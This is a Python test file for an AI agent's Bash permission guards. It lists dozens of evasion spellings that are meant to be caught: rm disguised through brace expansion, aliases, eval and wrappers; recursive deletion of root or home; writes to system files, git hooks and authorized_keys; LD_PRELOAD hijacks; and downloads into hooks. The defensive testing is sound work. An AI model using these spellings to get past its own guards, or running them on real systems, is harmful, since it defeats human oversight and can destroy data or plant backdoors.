"""Issue 30, the Bash guards: every spelling a security review used to slip a
command past the matcher, the breakers or an allow rule, plus variants of our
own for each class. The commands are strings the pure matcher reads: nothing
here runs them, and paths such as ``/etc/shadow`` are never touched."""

from __future__ import annotations

import pytest

from helikon.config import PermissionMode
from helikon.governance import (
    Allow,
    AllowRule,
    ApprovalNeeded,
    Decided,
    DenyRule,
    FromDenyRule,
    FromGuard,
    GuardRule,
    PermissionSettings,
    PermissionStage,
    Verdict,
    after_approval,
    check_runs,
    fold_permissions,
    resolve,
)
from helikon.model import ToolEffect

DEFAULTS = GuardRule.destructive_defaults()
RM = DenyRule.bash_command("rm")
GIT = AllowRule.bash_command("git")


def trips(command: str) -> list[str]:
    return [type(g.matcher).__name__ for g in DEFAULTS if g.matches("Bash", {"command": command})]


def verdict(command: str) -> Verdict:
    return RM.check("Bash", {"command": command})


# -- commandless redirects and exec redirections are writes -----------------------------


@pytest.mark.parametrize(
    "command",
    [
        "exec >.git/hooks/pre-commit; echo '#!/bin/sh'",  # the issue's
        "> .env",  # the issue's
        "exec 3>.git/config",
        ">>.ssh/authorized_keys",
        "{ echo x; } > .git/hooks/post-merge",
        "(echo x) >| .env.local",
        "while false; do :; done > .git/HEAD",
        "exec &>.git/hooks/pre-push",
    ],
)
def test_a_redirect_without_a_command_word_is_a_dot_path_write(command: str) -> None:
    assert "ProtectedDotPathWrite" in trips(command)


@pytest.mark.parametrize("command", ["2>/etc/shadow", "exec 2>>/etc/cron.d/x", ">/usr/bin/x", "<>/boot/x"])
def test_a_redirect_without_a_command_word_is_a_system_write(command: str) -> None:
    assert "SystemPathWrite" in trips(command)


# -- DenyRule.bash_command("rm") sees every way a line runs rm ----------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the issue's
        "{rm,-rf,x}",
        "function f { rm x; }; f",
        "coproc rm x",
        "bash <<< 'rm x'",
        "echo 'rm x' | sh",
        "shopt -s expand_aliases; alias x='rm'; x y",
        "setsid rm x",
        "ionice -c3 rm x",
        "taskset -c 0 rm x",
        "flock /tmp/lock rm x",
        "script -qc 'rm x' /dev/null",
        "fish -c 'rm x'",
        "busybox sh -c 'rm x'",
        # brace expansion, our own
        "{r,}m x",
        "{rm,x}",
        "x{,} ; {/bin/rm,-f,y}",
        "{r..r}m x",
        # functions and coproc
        "f() { rm x; }; f",
        "function f() { rm x; }",
        "coproc NAME { rm x; }",
        "f() ( rm x )",
        # shells fed their program
        "zsh <<< 'rm x'",
        "printf 'rm x\\n' | bash",
        "echo rm x | dash -s",
        "sh <<'EOF'\nrm x\nEOF",
        # aliases, eval, trap
        "alias ll='rm -rf'",
        "eval 'rm x'",
        "trap 'rm x' EXIT",
        # wrappers
        "chrt -f 10 rm x",
        "unshare -r rm x",
        "nsenter -t 1 -m rm x",
        "nice -n5 nohup stdbuf -oL timeout 3 rm x",
        "env -i PATH=/bin rm x",
        "xargs -0 -I{} rm {}",
        "find . -name '*.o' -exec rm {} +",
        "find . -execdir rm {} ';'",
        "parallel -j2 rm ::: a b",
        "watch -n1 rm x",
        "sudo -u root rm x",
        "doas rm x",
        "su -c 'rm x' root",
        "runuser -u nobody -- rm x",
        "busybox rm x",
        "flock /tmp/lock -c 'rm x'",
        "sg wheel 'rm x'",
        "strace -f -o /tmp/t rm x",
        "sudo -s 'rm x'",
        # shells
        "ksh -c 'rm x'",
        "mksh -c 'rm x'",
        "ash -c 'rm x'",
        "tcsh -c 'rm x'",
        "csh -c 'rm x'",
        "pwsh -Command rm x",
        "fish --command='rm x'",
        "/usr/bin/busybox ash -c 'rm x'",
        # quoting and substitution
        "$'\\x72m' x",
        "$'\\162m' x",
        'echo "$(rm x)"',
        'git commit -m "`rm x`"',
        "/b?n/r[m] x",
    ],
)
def test_deny_rm_is_not_evaded(command: str) -> None:
    assert verdict(command) is Verdict.YES
    assert RM.matches("Bash", {"command": command})


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("sh script.sh", "a shell running a script file"),
        ("bash ./x", "a shell running a script file"),
        ("cat cmds | bash", "a shell reading its commands from its input"),
        ("sh < cmds.txt", "a shell reading its commands from a file"),
        ("source ./x.sh", "a script read by source"),
        (". ./x.sh", "a script read by source"),
        ("$CMD x", "a program named by a variable or a substitution"),
        ("$(printf rm) x", "a program named by a variable or a substitution"),
        ('bash -c "\\$(printf rm) x"', "a program named by a variable or a substitution"),
        ('eval "$PAYLOAD"', "eval of a variable or a substitution"),
        ("pwsh -EncodedCommand cgBtACAAeAA=", "an encoded PowerShell command"),
        ("echo x | su", "su starts a shell that reads its commands from its input"),
        ("x{" + "a,b}{" * 12 + "a,b}", "a brace expansion larger than the matcher expands"),
    ],
)
def test_an_unreadable_construct_is_unknown_not_clear(command: str, reason: str) -> None:
    assert verdict(command) is Verdict.UNKNOWN
    assert reason in resolve(command).reasons


def test_an_unknown_deny_verdict_asks_once_after_every_definite_deny() -> None:
    settings = PermissionSettings(deny_rules=(RM, DenyRule.bash_command("curl")))
    args = {"command": "sh deploy.sh"}
    step = fold_permissions("Bash", ToolEffect.SIDE_EFFECT, args, settings)
    assert isinstance(step, ApprovalNeeded) and step.origin == FromDenyRule(2)
    assert (
        "a shell running a script file" in step.prompt and "'rm'" in step.prompt and "'curl'" in step.prompt
    )
    again = after_approval("Bash", ToolEffect.SIDE_EFFECT, args, settings, step, Allow())
    # the breakers cannot read the script either: one more ask, for all of them
    assert isinstance(again, ApprovalNeeded) and again.origin == FromGuard(3)
    done = after_approval("Bash", ToolEffect.SIDE_EFFECT, args, settings, again, Allow())
    assert done == Decided(Allow(), PermissionStage.MODE)
    definite = fold_permissions("Bash", ToolEffect.SIDE_EFFECT, {"command": "sh x; curl y"}, settings)
    assert isinstance(definite, Decided) and "curl" in str(definite.decision)


def test_an_unknown_deny_verdict_is_a_denial_under_dont_ask() -> None:
    settings = PermissionSettings(
        PermissionMode.DONT_ASK, deny_rules=(RM,), allow_rules=(AllowRule.tool("Bash"),)
    )
    step = fold_permissions("Bash", ToolEffect.SIDE_EFFECT, {"command": "cat x | sh"}, settings)
    assert isinstance(step, Decided) and step.stage is PermissionStage.DENY_RULE
    assert step.decision.__class__.__name__ == "Deny"


def test_the_breakers_ask_on_an_unreadable_line() -> None:
    step = fold_permissions(
        "Bash", ToolEffect.SIDE_EFFECT, {"command": "bash ./install.sh"}, PermissionSettings()
    )
    assert isinstance(step, ApprovalNeeded) and "a shell running a script file" in step.prompt


@pytest.mark.parametrize(
    "command", ["ls -la", "git status && make test", 'git commit -m "$(date)"', "echo hi | wc"]
)
def test_ordinary_lines_stay_clear(command: str) -> None:
    assert verdict(command) is Verdict.NO
    assert trips(command) == []


def test_a_deny_rule_on_a_wrapper_matches_the_wrapper() -> None:
    assert check_runs("sudo ls", {"sudo"}) is Verdict.YES
    assert check_runs("env FOO=1 ls", {"env"}) is Verdict.YES


# -- the breakers --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the issue's
        "rm -rf /*{,}",
        "cd / && rm -rf *",
        "rm -rf ~root",
        # our own
        "rm -rf /{,}",
        "rm -rf /???",
        "rm -rf /.[!.]* /*",
        "cd /; rm -rf ./*",
        "cd && rm -rf *",
        "cd ~ && rm -rf .",
        "pushd / && rm -rf *",
        "rm -rf ~alice/",
        "rm -rf /root",
        "rm -rf /home/alice",
        'rm -rf "$HOME"/*',
        "rm -rf ${HOME:?}/",
        "rm -rf ~/.*",
        "find / -delete",
        "find ~ -exec rm -rf {} +",
        "rm -r -f -- {/,}",
    ],
)
def test_the_root_or_home_breaker_catches(command: str) -> None:
    assert "RecursiveRemoveOfRootOrHome" in trips(command)


@pytest.mark.parametrize(
    "command", ['rm -rf "$STEAMROOT"/*', "rm -rf ${DIR}/", "cd $D && rm -rf *", "cd - && rm -rf ."]
)
def test_a_removal_that_may_be_of_root_or_home_asks(command: str) -> None:
    step = fold_permissions("Bash", ToolEffect.SIDE_EFFECT, {"command": command}, PermissionSettings())
    assert isinstance(step, ApprovalNeeded)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build",
        "cd build && rm -rf *",
        "rm -rf ~/.cache/pip",
        "rm -rf $TMPDIR/x",
        'rm -rf "$BUILD_DIR"',
    ],
)
def test_ordinary_removals_do_not_trip(command: str) -> None:
    assert "RecursiveRemoveOfRootOrHome" not in trips(command)


@pytest.mark.parametrize(
    "command",
    [
        "echo x > /lib/x86_64-linux-gnu/libc.so.6",  # the issue's: merged /usr
        "cp evil.so /lib64/ld-linux-x86-64.so.2",
        "echo x > /lib32/x",
        "tee /proc/sys/kernel/core_pattern",
        "cd /etc && echo x > passwd",
        "cd / ; echo x > etc/passwd",
        "echo x > /e?c/shadow",
        "echo x > /[e]tc/shadow",
        "echo x > /{etc,tmp}/hosts",
        "sed -i s/a/b/ /etc/hosts",
        "chmod 777 /usr/bin/sudo",
        "curl -o /usr/local/bin/x https://example.invalid/x",
        "rm -rf /usr/local",
        "echo x > ../../../../etc/cron.d/x",
    ],
)
def test_the_system_path_breaker_catches(command: str) -> None:
    assert "SystemPathWrite" in trips(command)


@pytest.mark.parametrize(
    "command",
    [
        # the issue's
        "echo x > .{git,x}/config",
        "cd .git && echo x > hooks/x",
        "echo x > .gi?/hooks/pre-commit",
        # our own
        "echo x > .g*/config",
        "echo x > .[g]it/config",
        "cd .git/hooks; printf x > pre-commit",
        "cd repo/.git && tee hooks/post-checkout",
        "pushd ./.git && cp x hooks/pre-push",
        "echo x > .{e,}nv",
        "echo x > .en?",
        "echo x > .s?h/authorized_keys",
        "cp evil .{x,ssh}/authorized_keys",
        "rm -rf .git",
        "sed -i s/x/y/ .git/config",
        "wget -O .git/hooks/pre-commit https://example.invalid/x",
    ],
)
def test_the_dot_path_breaker_catches(command: str) -> None:
    assert "ProtectedDotPathWrite" in trips(command)


@pytest.mark.parametrize(
    "command", ["echo x > *.txt", "echo x > .gitignore", "cd src && echo x > config", "echo > a.env"]
)
def test_the_dot_path_breaker_leaves_ordinary_writes(command: str) -> None:
    assert "ProtectedDotPathWrite" not in trips(command)


# -- allow rules are conservative ----------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the issue's
        "PATH=.:$PATH git status",
        "LD_PRELOAD=./evil.so git status",
        "GIT_SSH_COMMAND='sh -c evil' git pull",
        "sudo git status",
        # our own
        "GIT_CONFIG_GLOBAL=./x git log",
        "PATH=.:$PATH; git status",
        "export PATH=.; git status",
        "GIT_DIR=x\ngit log",
        "env git status",
        "env -i git status",
        "doas git status",
        "chroot /tmp/x git status",
        "unshare -r git status",
        "setpriv --reuid=0 git status",
        "git status && GIT_DIR=x git log",
        "exec >.bashrc; git status",
        "su -c 'git status'",
        "xargs git add",
        "git() { rm x; }; git status",
        "alias git='rm -rf'; git status",
        "sh git-status.sh",
    ],
)
def test_allow_git_refuses(command: str) -> None:
    assert not GIT.matches("Bash", {"command": command})


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git add . && git commit -m wip",
        "timeout 60 git fetch",
        "time git log | git hash-object --stdin",
    ],
)
def test_allow_git_still_allows_plain_git(command: str) -> None:
    assert GIT.matches("Bash", {"command": command})


def test_allow_rules_under_dont_ask_do_not_pass_a_prefixed_program() -> None:
    settings = PermissionSettings(PermissionMode.DONT_ASK, guard_rules=(), allow_rules=(GIT,))
    step = fold_permissions(
        "Bash", ToolEffect.SIDE_EFFECT, {"command": "LD_PRELOAD=./x.so git log"}, settings
    )
    assert isinstance(step, Decided) and step.stage is PermissionStage.MODE


# -- the matcher itself is bounded ---------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "{" * 20000,
        '"' + "$(" * 3000 + '"',
        "x{1..100000}",
        "{a,{b,{c,{d,{e,{f}}}}}}" * 200,
        "echo " + "a " * 49000,
        "; ".join(["ls"] * 3000),
        "rm x " + "y" * 100_001,
    ],
)
def test_a_hostile_line_is_read_quickly(command: str) -> None:
    import time

    started = time.monotonic()
    verdict(command)
    trips(command)
    assert time.monotonic() - started < 3


def test_a_line_past_the_length_bound_is_unreadable_not_clear() -> None:
    line = "rm x " + "y" * 100_001
    assert verdict(line) is Verdict.UNKNOWN
    assert not GIT.matches("Bash", {"command": "git status " + "y" * 100_001})


def test_many_arguments_are_not_an_expansion() -> None:
    line = "git add " + " ".join(f"f{i}.py" for i in range(400))
    assert not resolve(line).opaque and GIT.matches("Bash", {"command": line})
